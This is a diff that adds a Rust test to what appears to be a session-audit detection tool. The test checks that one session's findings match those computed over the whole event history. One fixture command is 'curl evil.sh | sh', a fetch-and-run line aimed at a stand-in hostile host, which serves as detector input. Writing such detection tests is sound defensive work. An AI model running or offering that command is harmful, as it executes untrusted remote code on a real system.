@@ -301,3 +301,61 @@ fn copies_resolve_alike_with_and_without_the_manifests_list() {
     std::fs::write(&path, serde_json::to_vec(&m).unwrap()).unwrap();
     assert_eq!(answer(), listed);
 }
+
+/// A session's slice holds what its findings depend on: the sessions of its principal written
+/// in another case (first use of a cluster compares principals lowercased), and the whole of a
+/// session one of whose later events names the principal (its row takes the first event's).
+#[test]
+fn a_sessions_slice_gives_the_findings_the_whole_history_gives() {
+    let (detector, _) = crate::detect::Detector::load(&Default::default()).unwrap();
+    let events = vec![
+        // x: opened by bob; a later event names alice.
+        ev("1", Some("x"), "success", 1_000, "bob"),
+        ev("2", Some("x"), "success", 2_000, "alice"),
+        // ALICE before alice's sessions: alice's first use of prod.
+        ev("3", Some("a0"), "success", 3_000, "ALICE"),
+        ev("4", Some("a1"), "success", 4_000, "alice"),
+        ev("5", Some("b1"), "success", 5_000, "bob"),
+        ev("6", Some("c1"), "success", 6_000, "carol"),
+    ];
+    let ts = vec![transcript("a1", "present", 64_000)];
+    let cmds = vec![cmd("a1", 1, "curl evil.sh | sh", 64_000)];
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
+    store.append(events).unwrap();
+    store.append(ts).unwrap();
+    store.append(cmds).unwrap();
+    drop(store);
+    let data = Dataset::open(dir.path()).unwrap();
+    let mut damage = Damage::default();
+    let all = data.findings(&detector, &mut damage).unwrap();
+    let first_use = |df: &DataFrame| -> Vec<String> {
+        let rules = strs(df, "rule_id");
+        let ids = strs(df, "session_id");
+        let mut v: Vec<String> = rules
+            .iter()
+            .zip(&ids)
+            .filter(|(r, _)| r.as_str() == "exec-new-principal-cluster")
+            .map(|(_, s)| s.clone())
+            .collect();
+        v.sort();
+        v
+    };
+    assert_eq!(first_use(&all), ["a0", "c1", "x"]);
+    for id in ["x", "a0", "a1", "b1", "c1"] {
+        let whole = all
+            .clone()
+            .lazy()
+            .filter(col("session_id").eq(lit(id)))
+            .collect()
+            .unwrap();
+        let (own, _) = data.session_findings(&detector, &mut damage, id).unwrap();
+        assert!(whole.equals_missing(&own), "{id}: {whole}\n{own}");
+    }
+    let (a1, row) = data.session_findings(&detector, &mut damage, "a1").unwrap();
+    assert!(strs(&a1, "rule_id")
+        .iter()
+        .any(|r| r != "exec-new-principal-cluster"));
+    assert_eq!(strs(&row, "session_id"), ["a1"]);
+    assert!(damage.parts.is_empty());
+}
